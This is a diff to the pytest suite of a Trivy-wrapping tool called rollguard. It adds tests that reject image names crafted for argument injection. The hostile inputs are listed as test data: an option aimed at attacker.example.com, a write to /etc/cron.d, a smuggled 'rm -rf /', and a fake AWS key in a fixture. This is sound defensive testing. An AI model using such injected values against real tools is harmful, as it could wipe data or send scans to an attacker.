@@ -9,6 +9,8 @@ from pathlib import Path
 
 import pytest
 from click.testing import CliRunner
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from rollguard.cli import main
 from rollguard.errors import InputError
@@ -79,7 +81,7 @@ def fake(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
 
 def test_scan_records_version_and_db_time(fake: Path, tmp_path: Path) -> None:
     (report,) = trivy.scan_images([IMAGE, IMAGE], output_dir=tmp_path / "scans")
-    assert fake.read_text().splitlines() == [f"image --format json --quiet {IMAGE}"]  # each image once, no shell
+    assert fake.read_text().splitlines() == [f"image --format json --quiet -- {IMAGE}"]  # each image once, no shell
     saved = tmp_path / "scans" / "registry.example.com_shop_checkout_2.4.1.json"
     assert report.name == saved.as_posix() and saved.read_text() == report.text
     assert report.problems == () and report.artifact is not None
@@ -174,7 +176,82 @@ def test_cli_check_scan_images(fake: Path, tmp_path: Path) -> None:
         ("image.vulnerabilities", f"{IMAGE} (trivy)", "CVE-2024-2511")
     ]
     assert report["errors"] == [] and result.exit_code == 1
-    assert fake.read_text().splitlines() == [f"image --format json --quiet {IMAGE}"]
+    assert fake.read_text().splitlines() == [f"image --format json --quiet -- {IMAGE}"]
+
+
+# --------------------------------------------------------------------------- hostile image names
+
+HOSTILE = [
+    "--help",
+    "--server=http://attacker.example.com:4954",
+    "-o/tmp/pwned",
+    "--output=/etc/cron.d/x",
+    "",
+    " nginx",
+    "nginx latest",
+    "Shop/Web:1",  # repositories are lower case
+    "registry.example.com/app:1;rm -rf /",
+    "app:-1",
+    "app@sha256:abc",  # a digest is at least 32 hex digits
+    "app@sha256:" + "0" * 64 + "\n--help",
+    "registry.example.com/../etc:1",
+]
+REFERENCES = [
+    "nginx",
+    "nginx:1.27",
+    "library/nginx:1.27-alpine",
+    IMAGE,
+    "registry.example.com:5000/shop/web:1.4.2",
+    "localhost/app",
+    "[::1]:5000/app:v1",
+    f"ghcr.io/org/sub_team/app-x@{DIGEST}",
+    f"{IMAGE}@{DIGEST}",
+]
+
+
+@pytest.mark.parametrize("image", HOSTILE)
+def test_an_image_that_is_not_a_reference_is_refused_before_trivy_runs(fake: Path, image: str) -> None:
+    with pytest.raises(InputError, match="is not an image reference") as caught:
+        trivy.scan_images([IMAGE, image])
+    assert str(caught.value).startswith(f"{image!r} is not an image reference")
+    assert not fake.exists()  # not even the good image was scanned
+
+
+@pytest.mark.parametrize("image", REFERENCES)
+def test_image_references_are_passed_after_a_double_dash(image: str) -> None:
+    assert trivy.check_image_reference(image) == image
+    args = trivy.image_arguments(image)
+    assert args[-2:] == ["--", image] and args.index("--") == len(args) - 2
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.text() | st.from_regex(r"-[-a-z]*(=.*)?", fullmatch=True))
+def test_nothing_that_passes_can_be_read_as_an_option(text: str) -> None:
+    try:
+        trivy.check_image_reference(text)
+    except InputError:
+        return
+    assert not text.startswith("-") and text.isascii() and text.isprintable() and " " not in text
+
+
+def test_scan_refuses_an_option_given_as_an_image(fake: Path) -> None:
+    result = CliRunner().invoke(main, ["scan", "--", "--help"])
+    assert result.exit_code == 2
+    assert result.output.startswith("rollguard: '--help' is not an image reference")
+    assert not fake.exists()
+
+
+def test_check_names_the_manifest_of_a_hostile_image(fake: Path, tmp_path: Path) -> None:
+    manifest = tmp_path / "pod.yaml"
+    hostile = "--server=http://attacker.example.com:4954"
+    manifest.write_text(
+        "apiVersion: v1\nkind: Pod\nmetadata:\n  name: p\nspec:\n  containers:\n"
+        f"  - name: app\n    image: {IMAGE}\n  - name: sidecar\n    image: '{hostile}'\n"
+    )
+    result = CliRunner().invoke(main, ["check", str(manifest), "--scan-images", "--jobs", "1"])
+    assert result.exit_code == 2
+    assert f"rollguard: {manifest}:1: {hostile!r} is not an image reference" in result.output
+    assert not fake.exists()
 
 
 # --------------------------------------------------------------------------- a real Trivy
@@ -247,3 +324,24 @@ def test_real_trivy_fails_cleanly_on_a_missing_image_archive(real_trivy: str, tm
     args = ["image", "--format", "json", "--quiet", "--input", str(tmp_path / "missing.tar")]
     with pytest.raises(InputError, match=r"trivy image failed \(exit 1\)"):
         trivy.run_trivy(real_trivy, args, timeout=120, subject="missing.tar")
+
+
+def test_real_trivy_reads_what_follows_a_double_dash_as_a_target(
+    real_trivy: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # A folder named like an option: after `--` Trivy scans it; without, Trivy prints its help.
+    monkeypatch.chdir(tmp_path)
+    folder = tmp_path / "--help"
+    folder.mkdir()
+    (folder / "settings.env").write_text("AWS_ACCESS_KEY_ID=AKIA2E0A8F3B244C9986\n")
+    options = ["fs", "--scanners", "secret", "--format", "json", "--quiet", "--cache-dir", str(tmp_path / "cache")]
+    out = trivy.run_trivy(real_trivy, [*options, "--", "--help"], timeout=120, subject="--help")
+    report = trivy.read_report("--help", out, version={})
+    assert report.artifact is not None and report.artifact.document["secrets"] == 1
+    unguarded = trivy.run_trivy(real_trivy, [*options, "--help"], timeout=120, subject="--help")
+    assert "Usage:" in unguarded and "SchemaVersion" not in unguarded
+
+
+def test_real_trivy_is_never_handed_a_hostile_image(real_trivy: str) -> None:
+    with pytest.raises(InputError, match="is not an image reference"):
+        trivy.scan_image("--server=http://attacker.example.com:4954", trivy=real_trivy, version={})
